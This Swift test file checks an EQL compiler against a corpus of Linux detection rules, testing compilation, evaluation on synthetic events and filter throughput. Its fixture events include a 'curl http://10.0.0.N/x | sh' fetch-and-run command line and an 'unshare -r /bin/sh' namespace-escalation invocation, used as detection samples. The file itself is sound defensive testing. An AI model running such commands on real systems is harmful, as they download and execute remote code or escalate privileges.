@testable import EQL
@testable import EventModel
import Foundation
import PackageTestSupport
@testable import Rules
import XCTest

/// Every Linux EQL rule of the detection-rules corpus (active and `_deprecated/`) must parse,
/// verify and compile.
final class CorpusRuleTests: XCTestCase {
    func testEveryCorpusRuleCompiles() throws {
        let root = try PackagePaths.shared().appendingPathComponent("detection-rules/linux-eql")
        var files: [URL] = []
        for directory in [root, root.appendingPathComponent("_deprecated")] {
            let names = try FileManager.default.contentsOfDirectory(atPath: directory.path)
            files += names.filter { $0.hasSuffix(".toml") }.sorted().map { directory.appendingPathComponent($0) }
        }
        XCTAssertGreaterThan(files.count, 300, "corpus unexpectedly small")

        var kinds: [String: Int] = [:]
        var failures: [String] = []
        var unknownFieldCount = 0
        var compileTime = Duration.zero
        for file in files {
            let table = try TOMLParser.parse(String(contentsOf: file, encoding: .utf8)).root
            guard let query = table["rule"]?["query"]?.string else {
                failures.append("\(file.lastPathComponent): no [rule] query")
                continue
            }
            let started = ContinuousClock.now
            defer { compileTime += ContinuousClock.now - started }
            do {
                let compiled = try EQLCompiler(schema: GrowingSchema()).compile(query)
                switch compiled.body {
                case .event: kinds["event", default: 0] += 1
                case .sequence: kinds["sequence", default: 0] += 1
                case .sample: kinds["sample", default: 0] += 1
                }
                unknownFieldCount += compiled.unknownFields.count
            } catch {
                failures.append("\(file.lastPathComponent): \(error)")
            }
        }
        let compiled = files.count - failures.count
        print("corpus: \(compiled)/\(files.count) rules compiled (event \(kinds["event", default: 0]), "
              + "sequence \(kinds["sequence", default: 0]), sample \(kinds["sample", default: 0])) in \(compileTime)")
        XCTAssertEqual(failures, [], "\(failures.count) of \(files.count) rules failed")
        XCTAssertEqual(unknownFieldCount, 0, "a schema that knows every field leaves none unknown")
    }

    /// Runs every compiled rule over events whose fields are all missing, strings, numbers or
    /// arrays: evaluation must never trap, and the per-event filters must behave per ES semantics
    /// (an all-missing event matches only rules whose condition tolerates missing fields).
    func testEveryCorpusRuleEvaluatesOnOddEvents() throws {
        let root = try PackagePaths.shared().appendingPathComponent("detection-rules/linux-eql")
        let schema = GrowingSchema()
        var filters: [CompiledFilter] = []
        var keys: [KeyExpression] = []
        for directory in [root, root.appendingPathComponent("_deprecated")] {
            for name in try FileManager.default.contentsOfDirectory(atPath: directory.path) where name.hasSuffix(".toml") {
                let table = try TOMLParser.parse(String(contentsOf: directory.appendingPathComponent(name), encoding: .utf8)).root
                guard let query = table["rule"]?["query"]?.string else { continue }
                switch try EQLCompiler(schema: schema).compile(query).body {
                case .event(let filter): filters.append(filter)
                case .sequence(let s):
                    filters += s.stages.map(\.filter)
                    keys += s.stages.flatMap(\.keys)
                case .sample(let s):
                    filters += s.stages.map(\.filter)
                    keys += s.stages.flatMap(\.keys)
                }
            }
        }
        let width = schema.slot(for: "zz.width.probe")!
        let shapes: [FieldValue] = [.null, "x", 1, 2.5, true, ["/bin/sh", "-c", "x"], []]
        var matches = 0
        let start = ContinuousClock.now
        for shape in shapes {
            let event = SlotEvent(values: Array(repeating: shape, count: width), timestamp: 0, ordinal: 0)
            for filter in filters {
                let verdict = filter.condition.test(event)  // the category is bypassed on purpose
                if verdict { matches += 1 }
                // The lowered executable form must agree with the compiler's IR.
                XCTAssertEqual(filter.test.node.test(event), verdict)
            }
            for key in keys { _ = key.evaluate(event) }
        }
        let elapsed = ContinuousClock.now - start
        print("corpus evaluation: \(filters.count) filters × \(shapes.count) events in \(elapsed), \(matches) conditions true")
        // With every field missing, no category matches, so nothing but `any where` rules can match.
        let empty = SlotEvent(values: [], timestamp: 0, ordinal: 0)
        XCTAssertTrue(filters.filter { $0.matches(empty) }.allSatisfy { $0.category == nil })
    }

    private func ruleFilter(_ file: String, _ schema: GrowingSchema) throws -> CompiledFilter {
        let url = try PackagePaths.shared().appendingPathComponent("detection-rules/linux-eql/\(file)")
        let table = try TOMLParser.parse(String(contentsOf: url, encoding: .utf8)).root
        let query = try XCTUnwrap(table["rule"]?["query"]?.string)
        return try XCTUnwrap(EQLCompiler(schema: schema).compile(query).eventFilter)
    }

    /// Two real rules against hand-built ECS events: the match, and the exclusions that suppress it.
    func testRealRulesMatchRealisticEvents() throws {
        let schema = GrowingSchema()
        let unshare = try ruleFilter("privilege_escalation_unshare_namespace_manipulation.toml", schema)
        var fields: [String: FieldValue] = [
            "event.category": ["process"], "host.os.type": "linux", "event.type": ["start"], "event.action": "executed",
            "process.name": "unshare", "process.args": ["unshare", "-r", "/bin/sh"],
            "process.parent.executable": "/bin/bash", "process.parent.name": "bash",
        ]
        XCTAssertTrue(unshare.matches(schema.event(fields)))
        fields["process.parent.executable"] = "/usr/lib/systemd/systemd-udevd"
        XCTAssertFalse(unshare.matches(schema.event(fields)), "excluded parent (wildcard list)")
        fields["process.parent.executable"] = nil
        XCTAssertTrue(unshare.matches(schema.event(fields)), "a missing optional field does not exclude")
        fields["process.args"] = ["unshare", "/usr/bin/snap"]
        XCTAssertFalse(unshare.matches(schema.event(fields)), "excluded by an args element")
        fields["process.parent.name"] = "java"
        XCTAssertTrue(unshare.matches(schema.event(fields)), "…unless the parent is java")

        let driver = try ruleFilter("persistence_kernel_driver_load.toml", schema)
        var load: [String: FieldValue] = [
            "event.category": "driver", "host.os.type": "linux", "event.action": "loaded-kernel-module",
            "auditd.data.syscall": "finit_module",
        ]
        XCTAssertTrue(driver.matches(schema.event(load)))
        load["auditd.data.syscall"] = "FINIT_MODULE"
        XCTAssertFalse(driver.matches(schema.event(load)), "in is case-sensitive")
    }

    /// Throughput of all corpus filters over realistic process events (printed; a figure for the
    /// README when run with `-c release`). Asserts only that the work was done.
    func testCorpusFilterThroughput() throws {
        let root = try PackagePaths.shared().appendingPathComponent("detection-rules/linux-eql")
        let schema = GrowingSchema()
        var filters: [CompiledFilter] = []
        for name in try FileManager.default.contentsOfDirectory(atPath: root.path) where name.hasSuffix(".toml") {
            let table = try TOMLParser.parse(String(contentsOf: root.appendingPathComponent(name), encoding: .utf8)).root
            guard let query = table["rule"]?["query"]?.string else { continue }
            switch try EQLCompiler(schema: schema).compile(query).body {
            case .event(let filter): filters.append(filter)
            case .sequence(let s): filters += s.stages.map(\.filter)
            case .sample(let s): filters += s.stages.map(\.filter)
            }
        }
        let shells = ["bash", "sh", "python3", "curl", "systemctl", "sshd", "cron", "UNSHARE"]
        let events = (0..<64).map { i in
            schema.event([
                "event.category": ["process"], "event.type": ["start"], "event.action": "executed",
                "host.os.type": "linux", "process.name": .string(shells[i % shells.count]),
                "process.executable": .string("/usr/bin/\(shells[i % shells.count])"),
                "process.args": ["-c", .string("curl http://10.0.0.\(i)/x | sh"), "--user"],
                "process.args_count": 3, "process.command_line": .string("bash -c curl http://10.0.0.\(i)/x | sh"),
                "process.parent.name": .string(shells[(i + 3) % shells.count]),
                "process.parent.executable": "/usr/sbin/sshd", "user.id": .string(i % 2 == 0 ? "0" : "1000"),
                "process.pid": .int(Int64(4000 + i)), "process.parent.pid": 1,
            ], ordinal: i)
        }
        let rounds = 4
        var matched = 0
        let start = ContinuousClock.now
        for _ in 0..<rounds {
            for event in events {
                for filter in filters where filter.matches(event) { matched += 1 }
            }
        }
        let elapsed = ContinuousClock.now - start
        for event in events {
            for filter in filters {
                XCTAssertEqual(filter.test.node.test(event), filter.condition.test(event), "lowered form agrees with the IR")
            }
        }
        let seconds = Double(elapsed.components.seconds) + Double(elapsed.components.attoseconds) / 1e18
        let evaluations = Double(rounds * events.count * filters.count)
        print(String(format: "corpus throughput: %d filters, %.0f events/s through all filters, %.0f ns per filter",
                     filters.count, Double(rounds * events.count) / seconds, seconds * 1e9 / evaluations))
        XCTAssertGreaterThan(matched, 0, "some process rules match these shell events")
    }
}
